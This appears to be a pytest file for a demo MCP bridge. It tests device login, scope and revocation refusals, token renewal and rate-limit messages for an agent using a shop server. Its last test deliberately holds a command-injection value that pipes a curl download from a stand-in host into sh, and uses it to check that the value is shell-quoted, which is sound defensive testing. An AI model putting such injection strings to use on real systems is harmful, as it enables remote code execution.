"""A stdio-only host, of any revision, is the agent of the talk through `demo serve --stdio`."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client
from mcp.shared.exceptions import MCPError

from demo.client import Agent, SampleHuman
from demo.policy_file import NAME, SHIPPED
from deputize import StoredToken, TokenStore
from deputize.evidence import Money
from tests.conftest import HANGS, console_at, serving
from tests.unit.bridge.hosts import REVISIONS, hosted

SCOPES = ("openid", "shop:read", "orders:read", "shop:buy", "offline_access")
SHIRT = {"company": "Acme", "mailingAddress": "1 Main St", "tshirtSize": "M"}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """One for the file, with a rate that its tests together do not reach."""
    folder = tmp_path_factory.mktemp("server")
    (folder / NAME).write_text(SHIPPED.text.replace("calls = 10 ", "calls = 1000 "))
    with serving(folder / "server.sqlite3", policy_folder=folder) as url:
        yield url


@pytest.fixture
def state(tmp_path: Path) -> Path:
    return tmp_path / "state"


def log_in(server: str, state: Path, scopes: tuple[str, ...] = SCOPES, *, bound: bool = True) -> StoredToken:
    """What `demo login --device` does in another terminal."""
    agent = Agent(server, store=TokenStore.open(state, server=server, use_keyring=False))
    login = agent.start_login(scopes, spending=Money(9000), bound=bound)
    human = SampleHuman("alice@example.com")
    human.decide(login.code.verification_uri_complete or login.code.verification_uri, login.code.user_code, True)
    return agent.finish_login(replace(login, code=replace(login.code, interval=0.0)), timeout=HANGS)


@pytest.mark.parametrize("revision", REVISIONS)
def test_a_host_of_any_revision_lists_and_calls_what_the_server_has(
    server: str, state: Path, revision: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = log_in(server, state)
    if revision == "2025-06-18":
        monkeypatch.setattr("mcp.client.session.LATEST_HANDSHAKE_VERSION", revision)

    async def work(host: Client) -> tuple[Any, Any, str]:
        return await host.list_tools(), await host.call_tool("buyMcpShopItem", SHIRT), host.protocol_version

    listed, bought, spoken = hosted(server, state, revision, work)
    assert spoken == revision
    directly = Agent(server, store=TokenStore.open(state, server=server, use_keyring=False)).tools()
    assert [tool.name for tool in listed.tools] == [tool.name for tool in directly.tools]
    buy = next(tool for tool in listed.tools if tool.name == "buyMcpShopItem")
    assert set(buy.input_schema["properties"]) >= set(SHIRT)
    assert buy.output_schema is not None
    assert buy.annotations is not None
    assert buy.meta == {"demo/scope": "shop:buy"}
    assert bought.is_error is False
    assert bought.structured_content["order"]["agent"].startswith("agent_")
    assert bought.meta["demo/decision"]["user"] == "user_alice"
    assert token.access_token not in str(bought)


@pytest.mark.parametrize("revision", ["2025-11-25", "2026-07-28"])
def test_without_authority_the_host_is_told_what_a_person_has_to_do_and_a_login_needs_no_restart(
    server: str, state: Path, revision: str
) -> None:
    told = anyio.Event()

    async def hear(message: Any) -> None:
        if "ToolListChanged" in type(message).__name__:
            told.set()

    async def work(host: Client) -> tuple[str, Any, Any]:
        with pytest.raises(MCPError) as refused:
            await host.list_tools()
        asked = await host.call_tool("buyMcpShopItem", SHIRT)
        if revision == "2026-07-28":
            async with host.listen(tools_list_changed=True) as changes:
                await anyio.to_thread.run_sync(log_in, server, state)
                with anyio.fail_after(20):
                    await anext(aiter(changes))
        else:
            await anyio.to_thread.run_sync(log_in, server, state)
            with anyio.fail_after(20):
                await told.wait()
        return refused.value.error.message, asked, await host.list_tools()

    message, asked, listed = hosted(server, state, revision, work, message_handler=hear)
    command = f"demo login --device --server {server} --state {state}"
    assert command in message
    assert asked.is_error
    assert command in asked.content[0].text
    assert "buyMcpShopItem" in {tool.name for tool in listed.tools}


@pytest.mark.parametrize("revision", ["2025-11-25", "2026-07-28"])
def test_after_a_revocation_the_host_is_told_by_which_gate_and_what_to_do(
    server: str, state: Path, revision: str
) -> None:
    log_in(server, state)
    console = console_at(server, TokenStore.open(state, server=server, use_keyring=False))
    console.sign_in(SampleHuman("alice@example.com"))
    session = max((one for one in console.sessions() if one.agent), key=lambda one: one.created_at).id

    async def work(host: Client) -> tuple[Any, Any, str]:
        before = await host.call_tool("listMcpShopInventory", {})
        await anyio.to_thread.run_sync(console.revoke, "session", session)
        after = await host.call_tool("listMcpShopInventory", {})
        with pytest.raises(MCPError) as refused:
            await host.list_tools()
        return before, after, refused.value.error

    before, after, error = hosted(server, state, revision, work)
    assert not before.is_error
    assert after.is_error
    assert "Refused by the standing gate" in after.content[0].text
    assert "demo login --device" in after.content[0].text
    assert after.meta["demo/decision"]["rule"] == "standing.session"
    assert error.code == -32003
    assert error.data["decision"]["rule"] == "standing.session"


def test_a_scope_that_lacks_is_named_with_the_login_that_would_ask_for_it(server: str, state: Path) -> None:
    log_in(server, state, ("shop:read", "offline_access"))

    async def work(host: Client) -> Any:
        return await host.call_tool("buyMcpShopItem", SHIRT)

    refused = hosted(server, state, "2026-07-28", work)
    assert refused.is_error
    assert refused.meta["demo/decision"]["rule"] == "scope.insufficient"
    assert "--scope offline_access --scope shop:buy --scope shop:read" in refused.content[0].text


def test_an_expired_token_is_renewed_and_the_host_sees_nothing_of_it(server: str, state: Path) -> None:
    store = TokenStore.open(state, server=server, use_keyring=False)
    token = log_in(server, state)
    store.put("agent", replace(token, expires_at=0.0))

    async def work(host: Client) -> Any:
        return await host.call_tool("listMcpShopInventory", {})

    assert not hosted(server, state, "2025-11-25", work).is_error
    renewed = store.get("agent")
    assert renewed is not None
    assert renewed.access_token != token.access_token


def test_a_tools_own_error_and_an_unknown_tool_reach_the_host_as_the_server_has_them(server: str, state: Path) -> None:
    log_in(server, state)

    async def work(host: Client) -> tuple[Any, Any]:
        return await host.call_tool("buyMcpShopItem", {**SHIRT, "tshirtSize": "XS"}), await host.call_tool("nope", {})

    wrong, unknown = hosted(server, state, "2026-07-28", work)
    assert wrong.is_error
    assert "tshirtSize" in wrong.content[0].text
    assert unknown.is_error
    assert "nope" in unknown.content[0].text


def test_a_rate_limit_is_told_with_the_seconds_to_wait(tmp_path: Path, state: Path) -> None:
    async def work(host: Client) -> Any:
        for _ in range(30):
            called = await host.call_tool("listMcpShopOrders", {})
            if called.is_error:
                return called
        raise AssertionError("there was no limit")

    with serving(tmp_path / "server.sqlite3") as server:
        log_in(server, state)
        refused = hosted(server, state, "2025-11-25", work)
    assert refused.meta["demo/decision"]["rule"] == "limits.rate"
    assert re.search(r"Wait \d+ s before the next try\.", refused.content[0].text)
    assert refused.meta["demo/limits"]


@pytest.mark.parametrize(
    ("status", "error", "scope", "wants"),
    [
        (401, "invalid_token", None, True),
        (401, None, None, True),
        (403, "insufficient_scope", "shop:buy", True),
        (403, "insufficient_authorization", None, False),
        (403, None, None, False),
        (429, None, None, False),
    ],
)
def test_how_a_person_logs_in_is_asked_for_only_where_that_would_help(
    status: int, error: str | None, scope: str | None, wants: bool
) -> None:
    """To find it out the bridge sends a request without a token, and a refusal of it stands in the audit trail."""
    from types import SimpleNamespace

    from demo.bridge.refusals import wants_login
    from deputize.evidence import Challenge

    given = tuple((name, value) for name, value in (("error", error), ("scope", scope)) if value is not None)
    outcome = SimpleNamespace(status=status, challenge=Challenge(status, "Bearer", given) if given else None)
    assert wants_login(outcome) is wants  # type: ignore[arg-type]


def test_a_scope_that_is_a_shell_command_stays_a_word() -> None:
    import shlex
    from types import SimpleNamespace

    from demo.bridge.refusals import of_refusal
    from deputize.evidence import Challenge

    nasty = "a;curl${IFS}evil.example|sh"
    challenge = Challenge(403, "Bearer", (("error", "insufficient_scope"), ("scope", f"{nasty} $(x)")))
    outcome = SimpleNamespace(
        status=403, challenge=challenge, text="No.", retry_after=None, decision=None, limits=(), error=None
    )
    reply = SimpleNamespace(error_code=None, error=None)
    text = of_refusal(outcome, reply, "demo login", ())  # type: ignore[arg-type]
    command = text.text.rsplit("has to run: ", 1)[1]
    assert shlex.split(command) == ["demo", "login", "--scope", "$(x)", "--scope", nasty]
    assert nasty not in command.replace(shlex.quote(nasty), "")
